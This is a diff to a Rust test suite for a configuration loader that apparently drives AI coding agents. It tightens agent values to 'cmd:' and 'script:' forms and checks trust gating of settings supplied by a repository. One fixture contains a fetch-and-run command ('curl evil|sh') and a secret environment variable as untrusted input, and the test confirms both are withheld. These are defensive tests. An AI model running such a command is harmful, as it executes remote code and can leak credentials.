@@ -171,7 +171,7 @@ fn every_setting_reaches_the_policy() {
         .user(
             "workflow: thorough\nstrategy: pipeline\ndomain: research\ntest_command: make test\nconfidence_floor: 0.725001\n\
              max_cycles: {fast: 2, standard: 2, thorough: 5}\n\
-             agents: {default: claude, maker: 'cmd:my agent', env: [LANG, API_KEY, LANG]}\n\
+             agents: {default: 'cmd:claude', maker: 'cmd:my agent', env: [LANG, API_KEY, LANG]}\n\
              models:\n  default: premium\n  archetypes: {guardian: opus}\n  workflows:\n    fast:\n      default: cheap\n      \
              archetypes:\n        guardian: sonnet\n\
              git: {auto_merge: true, auto_push: false, merge_strategy: squash, post_merge_test: true, on_post_merge_failure: halt}\n\
@@ -191,7 +191,7 @@ fn every_setting_reaches_the_policy() {
     let mut wanted = Policy { test_command: text("make test"), ..Policy::default() };
     wanted.confidence_floor.0 = 725_001;
     wanted.max_cycles = [(Workflow::Fast, 2), (Workflow::Thorough, 5)].into();
-    wanted.agents.default = "claude".to_owned();
+    wanted.agents.default = "cmd:claude".to_owned();
     wanted.agents.by_archetype = [("maker".to_owned(), "cmd:my agent".to_owned())].into();
     wanted.models.default = Some(Tier::Opus);
     wanted.models.archetypes = [("guardian".to_owned(), Tier::Opus)].into();
@@ -225,13 +225,13 @@ fn flags_are_checked_and_an_agent_for_all_means_all() {
         strategy: text("pdca"),
         domain: text("writing"),
         agent: text("script:play.sh"),
-        agent_for: vec![("sage".to_owned(), "codex".to_owned())],
+        agent_for: vec![("sage".to_owned(), "cmd:codex".to_owned())],
         test_command: text("make check"),
         auto_merge: Some(true),
         ..Flags::default()
     };
     let test = Test::new()
-        .user("strategy: pipeline\nagents: {default: gemini, guardian: goose}\ntest_command: make\n")
+        .user("strategy: pipeline\nagents: {default: 'cmd:gemini', guardian: 'cmd:goose'}\ntest_command: make\n")
         .flags(flags);
     let settings = test.settings();
     let policy = settings.policy();
@@ -239,7 +239,7 @@ fn flags_are_checked_and_an_agent_for_all_means_all() {
     assert_eq!(settings.domain(), Some(Domain::Writing));
     assert!(settings.auto_merge());
     assert_eq!(policy.agents.of("guardian"), "script:play.sh");
-    assert_eq!(policy.agents.of("sage"), "codex");
+    assert_eq!(policy.agents.of("sage"), "cmd:codex");
     assert_eq!(policy.test_command, text("make check"));
 
     let none =
@@ -254,14 +254,14 @@ fn flags_are_checked_and_an_agent_for_all_means_all() {
         ),
         (
             Flags { agent: text("hal"), ..Flags::default() },
-            "--agent: `hal` is not allowed for `agents.default`; allowed: claude, codex",
+            "--agent: `hal` is not allowed for `agents.default`; allowed: cmd:<command line>",
         ),
         (
-            Flags { agent_for: vec![("guardain".to_owned(), "codex".to_owned())], ..Flags::default() },
+            Flags { agent_for: vec![("guardain".to_owned(), "cmd:codex".to_owned())], ..Flags::default() },
             "--agent-for: unknown archetype `guardain`; known: explorer, creator",
         ),
         (
-            Flags { agent_for: vec![("env".to_owned(), "codex".to_owned())], ..Flags::default() },
+            Flags { agent_for: vec![("env".to_owned(), "cmd:codex".to_owned())], ..Flags::default() },
             "--agent-for: unknown archetype `env`",
         ),
         (
@@ -286,7 +286,7 @@ fn the_hash_is_of_every_byte() {
         Test::new().repo("workflow: fast\n").user("strategy: pdca\n").file("domain:  code\n"),
         Test::new().repo("workflow: fast\n").user("strategy: pdca\n"),
         base().approved(),
-        base().flags(Flags { agent: text("codex"), ..Flags::default() }),
+        base().flags(Flags { agent: text("cmd:codex"), ..Flags::default() }),
         base().repo_file(".archeflow/archetypes/sage.md", ""),
     ] {
         assert_ne!(other.settings().hash(), hash);
@@ -358,16 +358,10 @@ fn right(kind: Kind) -> &'static [&'static str] {
         Kind::Share => &["0", "1", "0.5", "0.000001", "1.000000", "'0.5'"],
         Kind::Tier => &["haiku", "cheap", "standard", "premium", "opus"],
         Kind::Release => &["0.1.0", "1.2.3-rc.1+x"],
-        Kind::Prefix => &["archeflow/", "a/b.c/"],
+        Kind::Prefix => &["archeflow/", "archeflow/b.c/"],
         Kind::Command => &["make", "'a | b && c'", "true", "|\n    cargo test"],
         Kind::Agent => &[
-            "claude",
             "'cmd:my agent --x'",
-            "acp:x",
-            "anthropic",
-            "ollama:q",
-            "openai:m@https://x",
-            "openai@u",
             "script:f",
         ],
         Kind::Variables => &["[]", "[LANG]", "[A_1, _b]"],
@@ -394,7 +388,7 @@ fn wrong(kind: Kind) -> &'static [&'static str] {
             &["archeflow", "/a/", "../", "a/../b/", "-a/", "+a/", "a//", "x.lock/", "'a b/'", "''", "a/.b/"]
         }
         Kind::Command => &["''", "'  '", "|\n    a\n    b", "[make]", "\"a\\tb\""],
-        Kind::Agent => &["hal", "claude:opus", "'cmd:'", "'acp: '", "openai", "openai:m", "''", "[claude]"],
+        Kind::Agent => &["hal", "claude", "'cmd:'", "'script: '", "openai:m@https://x", "''", "['cmd:x']"],
         Kind::Variables => &["LANG", "[1A]", "['A=1']", "[ARCHEFLOW_RUN_ID]", "['']", "[{}]"],
     }
 }
@@ -483,7 +477,7 @@ fn unknown_keys_are_named_with_what_is_known() {
         ),
         ("auto_merge: true\n", "unknown key `auto_merge` (did you mean `git.auto_merge`?)"),
         ("git.auto_merge: true\n", "unknown key `git.auto_merge`; write one level per line"),
-        ("agents:\n  guardain: codex\n", "unknown key `agents.guardain` (did you mean `agents.guardian`?)"),
+        ("agents:\n  guardain: 'cmd:codex'\n", "unknown key `agents.guardain` (did you mean `agents.guardian`?)"),
         (
             "models: {archetypes: {zeus: opus}}\n",
             "unknown key `models.archetypes.zeus`; known in `models.archetypes`: explorer, creator,",
@@ -729,7 +723,7 @@ fn no_damage_panics() {
 #[test]
 fn inert_values_are_used_and_guarded_ones_withheld() {
     let repo = "workflow: fast\ntest_command: curl evil|sh\nagents:\n  maker: 'cmd:evil'\n  env: [AWS_SECRET]\nmodels: {default: haiku}\n\
-                git:\n  auto_merge: true\n  merge_strategy: squash\n  branch_prefix: x/\n";
+                git:\n  auto_merge: true\n  merge_strategy: squash\n  branch_prefix: archeflow/x/\n";
     let test = || Test::new().repo(repo);
     let settings = test().settings();
     assert_eq!(settings.workflow(), Some(Workflow::Fast));
@@ -746,7 +740,7 @@ fn inert_values_are_used_and_guarded_ones_withheld() {
             ".archeflow/config.yaml:4 agents.maker=cmd:evil",
             ".archeflow/config.yaml:5 agents.env=[AWS_SECRET]",
             ".archeflow/config.yaml:8 git.auto_merge=true",
-            ".archeflow/config.yaml:10 git.branch_prefix=x/",
+            ".archeflow/config.yaml:10 git.branch_prefix=archeflow/x/",
         ]
     );
     let row = settings.show().into_iter().find(|row| row.key == "test_command").unwrap();
@@ -1097,7 +1091,7 @@ fn approvals_are_replaced_shown_and_revoked() {
     let mut second_process = place.trust();
     second_process.approve(&other, "monday").unwrap();
 
-    let next = place.offer("repo", "workflow: fast\ntest_command: make all\nagents: {maker: codex}\n");
+    let next = place.offer("repo", "workflow: fast\ntest_command: make all\nagents: {maker: 'cmd:codex'}\n");
     let before = trust.last(&next.root).unwrap();
     assert_eq!((before.at.as_str(), before.guarded.len()), ("monday", 2));
     let change = |key: &str, before: Option<&str>, after: Option<&str>| Change {
@@ -1108,7 +1102,7 @@ fn approvals_are_replaced_shown_and_revoked() {
     assert_eq!(
         next.changes(Some(before)).unwrap(),
         [
-            change("agents.maker", None, Some("codex")),
+            change("agents.maker", None, Some("cmd:codex")),
             change("git.auto_merge", Some("true"), None),
             change("test_command", Some("make"), Some("make all")),
         ]
